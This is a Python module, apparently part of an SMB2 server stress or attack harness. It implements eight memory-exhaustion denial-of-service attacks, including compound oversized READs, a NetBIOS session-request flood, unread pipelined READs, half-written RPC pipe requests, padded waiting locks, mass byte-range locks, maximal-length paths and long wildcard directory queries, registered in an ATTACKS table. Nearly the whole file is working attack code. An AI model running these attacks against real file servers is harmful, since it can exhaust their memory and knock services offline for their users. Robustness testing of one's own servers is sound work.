"""Attacks on the worker's memory: answers that add up, answers nobody reads, halves that are kept.

Each attack is a generator: it does what it does, tells what it saw in a dictionary with every `yield`,
and is asked for more as long as it shall go on. What it holds it holds until it is closed."""
import collections
import contextlib
import struct
import time

import smb2_raw as raw
from peer import (DIRECTORY_FILE, GENERIC_ALL, GENERIC_READ, NON_DIRECTORY_FILE, OPEN_IF,
                  charge_of)

MIB = 1 << 20
NETBIOS_SESSION_REQUEST = b"\x81\0\0\0"
EXCLUSIVE_LOCK, FAIL_IMMEDIATELY = 0x2, 0x10
FILE_END_OF_FILE = 20
SRVSVC = bytes.fromhex("c84f324b7016d30112785a47bf6ee188")
NDR = bytes.fromhex("045d888aeb1cc9119fe808002b104860")


def sparse_file(peer, name, size):
    """A file with a length and no blocks."""
    file = peer.open(name, access=GENERIC_ALL, disposition=OPEN_IF, options=NON_DIRECTORY_FILE)
    peer._must(peer.call(raw.SET_INFO, raw.set_info(file, struct.pack("<Q", size),
                                                    kind=FILE_END_OF_FILE)), "SET_INFO")
    return file


def compound_reads(target, count=64, size=270_000):
    """A compound of READs whose answers together do not fit a frame's 24 bits, or any memory."""
    charge = charge_of(size)
    while True:
        with target.peer() as peer:
            file = sparse_file(peer, "sums", size)
            peer.want_credits(count * charge)
            ids = peer.send_compound([(raw.READ, raw.read(file, size), charge)] * count)
            yield peer.statuses(ids)


def netbios_flood(target, size=45 * MIB, connections=1):
    """Session requests of NetBIOS, which the server once answered, from one who never reads."""
    with contextlib.ExitStack() as stack:
        peers = [stack.enter_context(target.connect(receive_buffer=4096))
                 for _ in range(connections)]
        sent = 0
        for peer in peers:
            try:
                sent += peer.send_what_fits(NETBIOS_SESSION_REQUEST * (size // 4), 2)
            except OSError:
                pass  # hung up: as good an answer as any
        while True:
            yield {"bytes taken": sent}
            time.sleep(0.2)


def unread_reads(target, connections=3, count=62, size=8 * MIB):
    """READs whose answers nobody takes; `count` of them altogether."""
    charge = charge_of(size)
    with contextlib.ExitStack() as stack:
        asked = 0
        peers = []
        for number in range(connections):
            peer = stack.enter_context(target.peer(receive_buffer=4096))
            file = sparse_file(peer, "unread", size)
            peer.want_credits(charge * -(-count // connections))
            share = count // connections + (number < count % connections)
            requests = b""
            for _ in range(share):
                if peer.granted < charge:
                    break
                requests += raw.frame(peer.message(raw.READ, raw.read(file, size), charge=charge))
                asked += 1
            peer.send_bytes(requests)
            peers.append(peer)
        while True:
            yield {"asked": asked}
            time.sleep(0.2)


def _rpc_bind():
    body = (struct.pack("<HHIB3x", 4280, 4280, 0, 1) + struct.pack("<HBx", 0, 1) + SRVSVC +
            struct.pack("<HH", 3, 0) + NDR + struct.pack("<I", 2))
    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0, 1) + body


def _rpc_fragment(first, stub):
    body = struct.pack("<IHH", len(stub), 0, 15) + stub
    return struct.pack("<BBBBIHHI", 5, 0, 0, 1 if first else 0, 0x10, 16 + len(body), 0, 2) + body


def half_pipes(target, count=300, size=960_000, patience=30.0):
    """Pipes with a request each that lacks its last fragment."""
    with target.peer(share="IPC$") as peer:
        peer.socket.settimeout(patience)  # who has no room is not read from
        peer.want_credits(512)
        middle = _rpc_fragment(False, bytes(4000)) * 14
        first = _rpc_fragment(True, bytes(4000)) + middle
        held = 0
        refused = {}
        for _ in range(count):
            answer = peer.call(raw.CREATE, raw.create("srvsvc", access=GENERIC_ALL))
            if answer is None or answer.status != "SUCCESS":
                status = answer.status if answer else raw.DISCONNECTED
                refused[status] = refused.get(status, 0) + 1
                break
            pipe = answer.body[64:80]
            answer = peer.call(raw.WRITE, raw.write(pipe, _rpc_bind()))
            taken = 0
            while taken < size and answer is not None and answer.status == "SUCCESS":
                part = middle if taken else first
                answer = peer.call(raw.WRITE, raw.write(pipe, part), charge=charge_of(len(part)))
                taken += len(part)
            held += taken
            status = answer.status if answer else raw.DISCONNECTED
            refused[status] = refused.get(status, 0) + 1
            if answer is None:
                break
        while True:
            yield {"bytes taken": held, "last answers": dict(refused)}
            time.sleep(0.2)


def waiting_locks(target, connections=8, each=8, size=8 * MIB, patience=2.0):
    """LOCKs that wait, each at the head of a frame of 8 MiB. A connection is left alone after it has
    taken nothing for `patience` seconds."""
    charge = charge_of(size)
    with contextlib.ExitStack() as stack:
        holder = stack.enter_context(target.peer())
        held = sparse_file(holder, "locked", 4096)
        holder._must(holder.call(raw.LOCK, raw.lock(
            held, ((0, 1, EXCLUSIVE_LOCK | FAIL_IMMEDIATELY),))), "LOCK")
        seen = collections.Counter()
        for _ in range(connections):
            peer = stack.enter_context(target.peer())
            file = peer.open("locked", access=GENERIC_ALL)
            peer.want_credits(charge * each)
            body = raw.lock(file, ((0, 1, EXCLUSIVE_LOCK),))
            peer.socket.settimeout(patience)
            try:
                for _ in range(each):
                    message_id = peer.send_padded(raw.LOCK, body, size, charge=charge)
                    if peer.wait_until_pending([message_id]):
                        seen["waiting"] += 1
                        continue
                    answer = peer.answers.get(message_id)
                    seen[answer.status if answer else raw.DISCONNECTED] += 1
                    if answer is None:
                        break
            except TimeoutError:
                seen["not taken"] += 1
            except OSError:
                seen[raw.DISCONNECTED] += 1
        while True:
            yield dict(seen)
            time.sleep(0.2)


def held_locks(target, files=64, ranges=16_383):
    """Byte-range locks that are held: as many in each file as it takes, in one file after the other."""
    charge = 1 + (48 + 24 * ranges) // (64 << 10)
    body_of = [(4 * number, 2, EXCLUSIVE_LOCK | FAIL_IMMEDIATELY) for number in range(ranges)]
    with target.peer() as peer:
        peer.want_credits(64)
        seen = collections.Counter()
        for number in range(files):
            answer = peer.call(raw.CREATE, raw.create(
                f"locked-{number}", access=GENERIC_ALL, disposition=OPEN_IF,
                options=NON_DIRECTORY_FILE))
            if answer is None or answer.status != "SUCCESS":
                seen[answer.status if answer else raw.DISCONNECTED] += 1
                break
            answer = peer.call(raw.LOCK, raw.lock(answer.body[64:80], body_of), charge=charge)
            seen[answer.status if answer else raw.DISCONNECTED] += 1
            if answer is None:
                break
        while True:
            yield dict(seen)
            time.sleep(0.2)


def long_names(target, count=20_000, depth=15):
    """Opens of one file by the longest path there is."""
    part = "n" * 250
    with target.peer() as peer:
        peer.want_credits(256)
        path = ""
        for _ in range(depth):
            path += part
            peer.call(raw.CREATE, raw.create(path, access=GENERIC_READ, disposition=OPEN_IF,
                                             options=DIRECTORY_FILE))
            path += "\\"
        body = raw.create(path + "file", access=GENERIC_READ, disposition=OPEN_IF)
        seen = collections.Counter()
        for first in range(0, count, 64):
            ids = [peer.send(raw.CREATE, body) for _ in range(min(64, count - first))]
            seen.update(peer.statuses(ids))
        while True:
            yield dict(seen)
            time.sleep(0.2)


def long_patterns(target, count=5_000, length=250):
    """Opens of a directory, each with the start of a listing by a pattern of many characters."""
    pattern = "*" + "".join(chr(0x4E00 + number) for number in range(length)) + "?" * 3
    with target.peer() as peer:
        peer.want_credits(256)
        seen = collections.Counter()
        for _ in range(count):
            answer = peer.call(raw.CREATE, raw.create("", access=GENERIC_READ,
                                                      options=DIRECTORY_FILE))
            if answer is None or answer.status != "SUCCESS":
                seen[answer.status if answer else raw.DISCONNECTED] += 1
                break
            answer = peer.call(raw.QUERY_DIRECTORY,
                               raw.query_directory(answer.body[64:80], pattern))
            seen[answer.status if answer else raw.DISCONNECTED] += 1
            if answer is None:
                break
        while True:
            yield dict(seen)
            time.sleep(0.2)


ATTACKS = {
    "compound_reads": (1, compound_reads),
    "netbios_flood": (3, netbios_flood),
    "unread_reads": (4, unread_reads),
    "half_pipes": (4, half_pipes),
    "waiting_locks": (4, waiting_locks),
    "held_locks": (4, held_locks),
    "long_names": (4, long_names),
    "long_patterns": (4, long_patterns),
}
